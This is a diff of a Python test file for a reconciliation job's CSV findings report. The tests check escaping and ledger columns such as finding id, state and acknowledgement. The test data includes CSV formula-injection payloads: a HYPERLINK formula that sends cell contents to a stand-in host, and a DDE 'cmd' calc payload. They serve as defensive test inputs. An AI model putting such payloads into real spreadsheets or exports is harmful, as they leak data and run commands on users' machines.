@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import csv
 import io
+from datetime import UTC, datetime, timedelta
 
 import polars as pl
 import pytest
@@ -11,6 +12,7 @@ import pytest
 from jobs.reconcile.report import findings_csv
 from jobs.reconcile.spreadsheet_csv import spreadsheet_csv
 
+NOW = datetime(2026, 6, 15, 5, 0, tzinfo=UTC)
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?"&A1,"open")',
     "+1+cmd|' /C calc'!A0",
@@ -56,25 +58,69 @@ def test_categorical_text_is_escaped_too() -> None:
     assert _rows(spreadsheet_csv(frame))[1:] == [["'=1+1"], ["OK"]]
 
 
+def _findings(**columns: list[object]) -> pl.DataFrame:
+    from jobs.reconcile.findings import FINDINGS_SCHEMA
+
+    row = {name: None for name in FINDINGS_SCHEMA} | {"code": "BAD_KEY", "severity": "warning"}
+    return pl.DataFrame([{**row, **{k: v[0] for k, v in columns.items()}}], schema=FINDINGS_SCHEMA)
+
+
 def test_findings_csv_escapes_a_hostile_key_and_evidence() -> None:
-    findings = pl.DataFrame(
-        {
-            "code": ["ORPHAN_RAW"],
-            "severity": ["WARNING"],
-            "userId": ["-u1"],
-            "documentId": ["@d1"],
-            "bucket": ["raw-bucket"],
-            "key": ['=HYPERLINK("http://evil.example")'],
-            "evidence": ['{"size":1}'],
-        }
+    from jobs.reconcile import ledger as ledgers
+
+    findings = _findings(
+        userId=["-u1"],
+        documentId=["@d1"],
+        bucket=["raw-bucket"],
+        key=['=HYPERLINK("http://evil.example")'],
+        evidence=['{"size":1}'],
     )
-    header, row = _rows(findings_csv(findings))
-    assert dict(zip(header, row, strict=True)) == {
-        "code": "ORPHAN_RAW",
-        "severity": "WARNING",
+    identified = ledgers.with_ids(findings)
+    ledger = ledgers.carry(identified, None, [], NOW, [])
+    header, row = _rows(findings_csv(identified, ledger))
+    cells = dict(zip(header, row, strict=True))
+    assert {k: cells[k] for k in ("code", "severity", "userId", "documentId", "bucket", "key", "evidence")} == {
+        "code": "BAD_KEY",
+        "severity": "warning",
         "userId": "'-u1",
         "documentId": "'@d1",
         "bucket": "raw-bucket",
         "key": '\'=HYPERLINK("http://evil.example")',
         "evidence": '{"size":1}',
     }
+
+
+def test_findings_csv_leads_with_each_findings_id_and_life_from_the_ledger() -> None:
+    """The file an auditor opens: id, state, first-seen date, nights open and acknowledgement."""
+    from jobs.reconcile import ledger as ledgers
+
+    a = _findings(bucket=["raw"], key=["notes/a.txt"])
+    b = _findings(bucket=["raw"], key=["notes/b.txt"])
+    night1 = ledgers.carry(ledgers.with_ids(a), None, [], NOW - timedelta(days=1), [])
+    tonight = ledgers.with_ids(pl.concat([a, b]))
+    (a_id, b_id) = tonight.get_column("findingId").to_list()
+    ack = ledgers.Acknowledgement(
+        findingId=a_id,
+        code="BAD_KEY",
+        userId=None,
+        documentId=None,
+        by="Ada",
+        reason="=cmd known",
+        at=NOW - timedelta(hours=1),
+        firstSeen=NOW - timedelta(days=1),
+        expiresAt=NOW + timedelta(days=9),
+    )
+    ledger = ledgers.carry(tonight, night1, [ack], NOW, [])
+    header, *rows = _rows(findings_csv(tonight, ledger))
+    assert header[:7] == [
+        "findingId",
+        "state",
+        "firstSeen",
+        "nightsOpen",
+        "acknowledgedBy",
+        "acknowledgedReason",
+        "acknowledgedUntil",
+    ]
+    by_id = {r[0]: r for r in rows}
+    assert by_id[a_id][1:7] == ["acknowledged", "2026-06-14", "2", "Ada", "'=cmd known", "2026-06-24"]
+    assert by_id[b_id][1:7] == ["new", "2026-06-15", "1", "", "", ""]
